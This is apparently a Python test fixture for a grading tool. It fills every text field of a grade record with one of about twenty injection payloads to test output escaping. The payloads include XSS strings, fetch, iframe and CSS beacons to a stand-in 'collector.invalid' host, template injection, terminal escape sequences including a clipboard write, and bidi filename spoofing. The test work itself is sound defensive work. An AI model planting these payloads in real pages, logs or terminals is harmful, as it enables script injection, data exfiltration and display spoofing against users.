"""A grade in which every text that can be chosen is the same one, for tests of escaping."""

from __future__ import annotations

from grader.model.grade import AssignmentRef, Grade, Phase
from grader.model.results import Reason
from grader.model.verdict import Verdict
from tests.builders import (
    DIGEST,
    build,
    case_result,
    environment,
    grade,
    line,
    program,
    reviewed,
    score,
    step,
    submission,
    text,
)

PAYLOADS = {
    "script": "<script>document.title='owned'</script>",
    "onerror": '"><img src=x onerror="fetch(\'https://collector.invalid\')">',
    "closing": "</pre></div></details></main><iframe src=https://collector.invalid>",
    "style": "</style><style>@import url(https://collector.invalid/a.css);</style>",
    "attribute": '" onmouseover="alert(1)" x="',
    "unquoted": "x onmouseover=alert(1)",
    "entities": "&lt;b&gt; &#60;script&#62; &quot;",
    "comment": "<!-- <!doctype html> --> <![CDATA[ ]]>",
    "prefetch": '<link rel=prefetch href="https://collector.invalid/?q=1">',
    "markdown": "![x](https://collector.invalid/?q=1)",
    "jinja": "{{ 7 * 7 }} {% raw %} {# #}",
    "markup": "[/] [bold]x[/bold] [link=https://collector.invalid]x[/link] :camel:",
    "clear": "\x1b[2J\x1b[H\x1b]0;owned\x07",
    "osc8": "\x1b]8;;https://collector.invalid\x1b\\x\x1b]8;;\x1b\\",
    "osc52": "\x1b]52;c;b3duZWQ=\x07",
    "c1": "\x9b2J \x90 \x9d0;owned\x9c",
    "bidi": "\u202egnp.exe \u2066x\u2069",
    "nul": "nul\x00nul \ufffd \ud800",
    "return": "good\rbad \x08\x08\x08",
    "zero": "a\u200bb\ufeffc\u3164d",
}


def hostile(payload: str) -> Grade:
    """`payload` stands wherever a submission, a suite or an engine could put text of its own."""
    title = payload[:80].encode("utf-8", "replace").decode()
    failed = case_result(
        payload,
        Verdict.FAILED,
        title=payload,
        brief=payload,
        message=payload,
        expected=payload,
        seen=payload,
        explanation=payload,
        transcript=(step(0.1, "receive", payload), step(0.2, payload, payload)),
        programs=(
            program(payload, "--x", stdout=payload, stderr=payload, role=payload, signal=11),
        ),
        limits_hit=(payload,),
    )
    return grade(
        id=payload,
        assignment=AssignmentRef(id=payload, title=payload, version=payload, digest=DIGEST),
        submission=submission(
            label=text(payload),
            ref=text(payload),
            author=text(payload),
            subject=text(payload),
            received_at=payload,
            notices=(payload,),
        ),
        score=score(40.0),
        reason=Reason(code=payload, message=payload, details=(payload,), hint=payload),
        criteria=(
            line(
                "functional",
                failed,
                case_result(payload, title=payload),
                earned=40.0,
                gated=payload,
                title=title,
                about=payload,
                look_at=payload,
            ),
            reviewed("craft", title, payload, payload, about=payload, look_at=payload),
        ),
        build=build(log=text(payload), command=("dune", payload), image=payload),
        environment=environment(
            engine=payload, kernel=payload, images={payload: payload}, notes=(payload,)
        ),
        phases=(Phase(name=payload, seconds=1.0),),
    )
